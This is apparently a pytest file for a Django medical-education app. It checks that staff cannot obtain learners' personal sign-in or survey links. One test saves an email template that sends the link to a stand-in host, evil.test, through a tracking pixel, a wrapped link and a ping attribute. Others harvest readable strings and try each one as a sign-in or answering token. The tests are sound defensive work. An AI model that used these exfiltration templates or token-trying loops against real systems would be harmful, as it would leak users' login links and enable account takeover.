"""Privacy scenarios: staff try to get hold of a learner's personal link (issue 9,
attacks 1 and 2), through the real pages, the real worker and a real SMTP server.

Personal links are minted by the worker at delivery for each email's recipient
(messaging/personal_links.py): staff read placeholders in the outbox, never tokens.
"""

import datetime
import re

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from medmentor.messaging.models import OutboxMessage
from medmentor.messaging.personal_links import personal_link_placeholder
from medmentor.programs.models import ServiceBlock
from medmentor.surveys.exports import CSV_EXPORTS
from medmentor.surveys.invitations import survey_emails_enqueue_due
from medmentor.surveys.models import Anonymity, Instrument, Invitation, Wave
from medmentor.surveys.services import invitations_create
from tests.conftest import make_person, received_text, sign_in
from tests.messaging.staff_readable import (
    SIGN_IN_TOKEN,
    SURVEY_TOKEN,
    api_text,
    outbox_rows_text,
    staff_pages_text,
)
from tests.surveys.conftest import make_survey

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_passwords")]


@pytest.fixture
def operator(institution):
    """The operations superuser: a separate account, reads the admin's outbox."""
    person = make_person("ops@lakeside.test", "Ops Operator", "other", institution)
    person.is_staff = person.is_superuser = True
    person.save(update_fields=["is_staff", "is_superuser"])
    return person


@pytest.fixture
def weekly_due(program, service, case_week, junior, senior):
    """Jo and Sam on service this week; the weekly email is due at once."""
    for person in (junior, senior):
        ServiceBlock.objects.create(
            program=program,
            person=person,
            service=service,
            starts_on=case_week.week.starts_on,
            ends_on=case_week.week.starts_on + datetime.timedelta(days=4),
        )
    program.weekly_email_weekday = 0
    program.weekly_email_time = datetime.time(0, 0)
    program.save()
    return case_week


def everything_staff_read(program, staff, operator, surveys=()) -> list[str]:
    """Every text staff can read about the program's mail and surveys."""
    texts = outbox_rows_text()
    texts += staff_pages_text(program=program, staff=staff, operator=operator)
    texts += api_text(program=program, staff=staff, surveys=surveys)
    client = Client()
    for person in staff:
        client.force_login(person)
        urls = [reverse("home"), reverse("survey-list", kwargs={"slug": program.slug})]
        for survey in surveys:
            args = {"slug": program.slug, "instrument_id": survey.pk}
            urls.append(reverse("survey-report", kwargs=args))
            urls += [
                reverse("survey-export", kwargs={**args, "kind": kind}) for kind in CSV_EXPORTS
            ]
        texts += [client.get(url).content.decode() for url in urls]
        client.logout()
    return texts


def candidates(texts: list[str]) -> set[str]:
    """Every string in `texts` that could be a token: each run of URL-safe characters
    of 16 or more, and whatever follows a sign-in or answering path."""
    found = set()
    for text in texts:
        found.update(re.findall(r"[A-Za-z0-9_:.\-]{16,}", text))
        found.update(SIGN_IN_TOKEN.findall(text))
        found.update(SURVEY_TOKEN.findall(text))
    return found


def signed_in_as(client: Client):
    response = client.get("/api/me")
    return response.json().get("email") if response.status_code == 200 else None


def test_a_cut_template_replay_gives_the_director_no_token_and_signs_no_one_in(
    client, settings, smtp_server, program, weekly_due, director, coordinator, junior, operator
):
    # The director writes a template that strips the sign-in path from the link.
    sign_in(client, director)
    response = client.post(
        reverse("email-template", kwargs={"slug": program.slug}),
        {
            "action": "save",
            "subject": "This week",
            "text_body": 'Bare: {{ workspace_url|cut:"/sign-in/link/" }}\n{{ workspace_url }}',
            "html_body": '<a href="{{ workspace_url|cut:"/sign-in/link/" }}">x</a>',
        },
    )
    assert response.status_code == 302
    client.logout()
    call_command("worker", "--once", "--hook", "weekly-emails")

    # The junior's email works for the junior ...
    jo = next(m for m in smtp_server.messages if m["To"].addresses[0].addr_spec == junior.email)
    (token,) = set(SIGN_IN_TOKEN.findall(received_text(jo)))

    # ... while staff, reading everything they can, find no token: each candidate
    # string posted as a sign-in link signs nobody in.
    texts = everything_staff_read(program, [director, coordinator], operator)
    assert not any(token in text for text in texts)
    tried = candidates(texts)
    assert tried  # the pages were read
    for candidate in tried:
        attacker = Client()
        attacker.post(f"/sign-in/link/{candidate}/")
        assert signed_in_as(attacker) is None, candidate
    # The director stays the director.
    sign_in(client, director)
    assert signed_in_as(client) == director.email


def test_a_template_that_wraps_the_link_in_another_sites_address_sends_that_site_no_token(
    client, settings, smtp_server, program, weekly_due, director, junior
):
    sign_in(client, director)
    response = client.post(
        reverse("email-template", kwargs={"slug": program.slug}),
        {
            "action": "save",
            "subject": "This week",
            "text_body": "https://evil.test/?u={{ workspace_url }}\nmine: {{ workspace_url }}",
            "html_body": (
                '<img src="https://evil.test/pixel?{{ workspace_url }}">'
                '<a href="https://evil.test/go?{{ workspace_url }}">open</a>'
                '<a ping="https://evil.test/ping" href="{{ workspace_url }}">open</a>'
                '<a href="{{ workspace_url }}">mine</a>'
            ),
        },
    )
    assert response.status_code == 302
    call_command("worker", "--once", "--hook", "weekly-emails")

    jo = received_text(
        next(m for m in smtp_server.messages if m["To"].addresses[0].addr_spec == junior.email)
    )
    assert len(set(SIGN_IN_TOKEN.findall(jo))) == 1  # the standalone links: one, Jo's
    for evil in re.findall(r"https://evil\.test/\S*", jo):
        assert not SIGN_IN_TOKEN.search(evil), evil


def test_a_survey_placeholder_pasted_into_the_weekly_test_email_mints_no_one_elses_link(
    client, settings, smtp_server, program, weekly_due, director, junior
):
    """The director copies the junior's survey placeholder (it is on the outbox page)
    into a draft and sends it to themself as a test: the worker mints survey links for
    their own invitation only, so the director's copy holds no token."""
    survey = make_survey(program)
    wave = survey.waves.get(kind="pre")
    invitations_create(wave=wave, people=[junior])
    stolen = personal_link_placeholder(kind="survey", ref=Invitation.objects.get().pk)
    sign_in(client, director)
    response = client.post(
        reverse("email-test", kwargs={"slug": program.slug}),
        {"subject": "Test", "text_body": f"Answer: {stolen}", "html_body": ""},
    )
    assert response.status_code == 200
    call_command("worker", "--once")

    (test_email,) = [
        m for m in smtp_server.messages if m["To"].addresses[0].addr_spec == director.email
    ]
    text = received_text(test_email)
    assert not SURVEY_TOKEN.search(text)
    assert reverse("sign-in") in text  # the neutral link instead


def survey_world(client, program, director, people, mode):
    survey = make_survey(program, anonymity=mode)
    wave = survey.waves.get(kind="pre")
    sign_in(client, director)
    client.post(
        reverse(
            "survey-invite",
            kwargs={"slug": program.slug, "instrument_id": survey.pk, "wave_id": wave.pk},
        ),
        {"roles": ["junior", "senior"]},
    )
    client.logout()
    return survey, wave


def test_survey_tokens_cannot_be_polled_because_staff_can_read_none(
    client, settings, smtp_server, program, director, coordinator, junior, senior, operator
):
    survey, _ = survey_world(client, program, director, [junior, senior], Anonymity.CODED)
    call_command("worker", "--once", "--hook", "survey-emails")
    jo = next(m for m in smtp_server.messages if m["To"].addresses[0].addr_spec == junior.email)
    (token,) = set(SURVEY_TOKEN.findall(received_text(jo)))
    assert client.get(f"/surveys/answer/{token}/").status_code == 200  # Jo's link works

    texts = everything_staff_read(program, [director, coordinator], operator, [survey])
    assert not any(token in text for text in texts)
    # Every string staff can read, tried as an answering token: none is one, so
    # nothing answers 200 (not answered) or 410 (answered) to poll.
    for candidate in candidates(texts):
        status = Client().get(f"/surveys/answer/{candidate}/").status_code
        assert status not in (200, 410), candidate


def test_staff_cannot_answer_or_decline_in_someone_elses_name(
    client, settings, smtp_server, program, director, coordinator, junior, senior, operator
):
    survey, wave = survey_world(client, program, director, [junior, senior], Anonymity.CODED)
    call_command("worker", "--once", "--hook", "survey-emails")
    texts = everything_staff_read(program, [director, coordinator], operator, [survey])

    for candidate in candidates(texts) | {
        # The placeholders staff can read, used as they are or as a token.
        m.group(0)
        for text in texts
        for m in re.finditer(r"https?://[^\s\"'<>]*/personal-link/[^\s\"'<>]*", text)
    }:
        attacker = Client()
        path = candidate if candidate.startswith("http") else f"/surveys/answer/{candidate}/"
        path = re.sub(r"^https?://[^/]+", "", path)
        attacker.post(path, {"consent": "no"})
        attacker.post(path, {"consent": "yes"})
    assert not Invitation.objects.filter(is_done=True).exists()
    assert Wave.objects.get(pk=wave.pk).declined_count == 0
    assert not survey.waves.get(pk=wave.pk).responses.exists()


@pytest.mark.parametrize("mode", [Anonymity.CODED, Anonymity.ANONYMOUS])
def test_the_outbox_does_not_tell_staff_who_answered_a_coded_or_anonymous_survey(
    client, program, director, junior, senior, mode
):
    """Between two renders of the outbox Jo answers: the outbox shows staff the same
    emails for Jo and Sam (reminders go to everyone invited in these modes)."""
    survey, wave = survey_world(client, program, director, [junior, senior], mode)
    start = wave.opens_at + datetime.timedelta(hours=1)
    survey_emails_enqueue_due(now=start)
    Invitation.objects.filter(person=junior).update(is_done=True)  # Jo answers
    survey_emails_enqueue_due(now=start + datetime.timedelta(days=survey.reminder_every_days))

    sign_in(client, director)
    page = client.get(reverse("outbox", kwargs={"slug": program.slug})).content.decode()
    for person in (junior, senior):
        assert page.count(person.email) == 2  # the invitation and one reminder each
    bodies = {
        person.email: [
            m.text_body.replace(person.full_name, "NAME")
            for m in OutboxMessage.objects.filter(person=person).order_by("key")
        ]
        for person in (junior, senior)
    }
    strip = lambda body: re.sub(r"/survey/\d+/", "/survey/ID/", body)  # noqa: E731
    assert [strip(b) for b in bodies[junior.email]] == [strip(b) for b in bodies[senior.email]]


def test_in_identified_mode_staff_may_see_who_still_gets_reminders(
    client, program, director, junior, senior
):
    """Identified mode promises no anonymity: reminders go to those not done only."""
    survey, wave = survey_world(client, program, director, [junior, senior], Anonymity.CODED)
    Instrument.objects.filter(pk=survey.pk).update(anonymity=Anonymity.IDENTIFIED)
    start = wave.opens_at + datetime.timedelta(hours=1)
    survey_emails_enqueue_due(now=start)
    Invitation.objects.filter(person=junior).update(is_done=True)
    survey_emails_enqueue_due(now=start + datetime.timedelta(days=survey.reminder_every_days))
    assert OutboxMessage.objects.filter(person=junior).count() == 1
    assert OutboxMessage.objects.filter(person=senior).count() == 2
